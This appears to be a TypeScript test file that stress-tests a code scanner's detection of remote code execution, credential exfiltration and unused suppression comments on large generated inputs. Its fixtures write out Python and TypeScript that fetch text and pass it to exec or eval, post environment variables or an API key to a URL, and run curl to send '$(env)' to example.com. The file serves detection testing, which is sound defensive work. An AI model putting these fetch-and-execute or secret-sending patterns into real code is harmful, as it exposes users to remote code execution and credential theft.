/** Large inputs of few kinds: every finding is there, though each could have cost a look at all others. */

import assert from 'node:assert/strict';
import type { Language } from '../../server/core/syntax/language.ts';
import { find } from '../kit/check.ts';

const COUNT = 2_000;

/** `line` for each number below `COUNT`, one after the other. */
function many(line: (index: number) => string): string {
  return Array.from({ length: COUNT }, (_, index) => line(index)).join('');
}

const DOWNLOAD = 'import requests, hashlib\nt = requests.get("u").text\n';

const CASES: readonly { title: string; language?: Language; text: string; findings: number; rule?: string }[] = [
  { title: 'sinks of one download', text: DOWNLOAD + many(() => 'exec(t)\n'), findings: COUNT },
  {
    title: 'sinks on one line',
    language: 'typescript',
    text: `const t = await (await fetch("u")).text(); ${many(() => 'eval(t); ')}\n`,
    findings: COUNT,
  },
  { title: 'sinks in functions', text: DOWNLOAD + many((i) => `def f${i}():\n  exec(t)\n`), findings: COUNT },
  {
    title: 'tests beside sinks',
    text: DOWNLOAD + many(() => 'if hashlib.sha256(t).hexdigest() == requests.get("v").text: exec(t)\n'),
    findings: COUNT,
  },
  {
    title: 'stores into one object',
    text: `${DOWNLOAD}o = make()\n${many((i) => `o.x = ${i}\nexec(o.x)\n`)}o.x = t\nexec(o.x)\n`,
    findings: 1,
  },
  {
    title: 'stores by the methods of one class',
    text: `${DOWNLOAD}class A:\n${many((i) => `  def f${i}(self):\n    self.x = t\n    exec(self.x)\n`)}`,
    findings: COUNT,
  },
  {
    title: 'definitions of one name',
    text: `${DOWNLOAD}exec(t)\nx = 1\n${many(() => 'x = x + 1\n')}${many(() => 'exec(str(x))\n')}`,
    findings: 1,
  },
  {
    title: 'files written under one name, of which one is a download',
    text: `${DOWNLOAD}${many((i) => `with open("${i}", "w") as f:\n  f.write(${i === 9 ? 't' : '"1"'})\nexec(open("${i}").read())\n`)}`,
    findings: 1,
  },
  {
    title: 'calls that use up all steps before the one that matters',
    text: `${DOWNLOAD}${'exec(f(a, b, c, d, e, g))\n'.repeat(12_000)}exec(t)\n`,
    findings: 1,
  },
  {
    title: 'comments of no use on one line',
    language: 'typescript',
    text: many(() => '/* loadguard: ignore[remote-exec] ours */').repeat(8),
    rule: 'unused-suppression',
    findings: COUNT * 8,
  },
  {
    title: 'white space and signs around a comment',
    language: 'typescript',
    text: `/* a${', '.repeat(300_000)}b loadguard: ignore[remote-exec] ours${'  '.repeat(300_000)}c */\n`,
    rule: 'unused-suppression',
    findings: 1,
  },
  {
    title: 'secrets that are sent, beside keys that are looked at',
    text: `import os, requests\n${many((i) => `if name.startswith("A${i}"): requests.post(url, json=dict(os.environ))\n`)}`,
    rule: 'credential-exfiltration',
    findings: COUNT,
  },
  {
    title: 'parts inside each other of what is sent, in all ways',
    text: `import os, requests\na0 = os.environ["API_KEY"]\n${Array.from({ length: 8 }, (_, i) => `a${i + 1} = {${Array.from({ length: 40 }, (_, key) => `"k${key}": a${i}`).join(', ')}}\n`).join('')}requests.post(url, json=a8)\nrequests.post("https://example.com", json=dict(os.environ))\n`,
    rule: 'credential-exfiltration',
    findings: 1,
  },
  {
    title: 'words of one command that sends',
    text: `import os\nos.system("curl ${'-d $(env) '.repeat(COUNT)} https://example.com")\n`,
    rule: 'credential-exfiltration',
    findings: 1,
  },
  {
    title: 'suppressions, of which one is missing',
    text: `${DOWNLOAD}exec(t)\n${many(() => '# loadguard: ignore[remote-exec] read\nexec(t)\n')}`,
    findings: 1,
  },
];

describe('large inputs', () => {
  for (const { title, language = 'python', text, findings, rule = 'remote-exec' } of CASES) {
    it(title, () => {
      const found = find(language, text).filter((it) => it.rule === rule);
      assert.equal(found.length, findings);
      assert.equal(new Set(found.map(({ fingerprint }) => fingerprint)).size, findings);
    });
  }
});
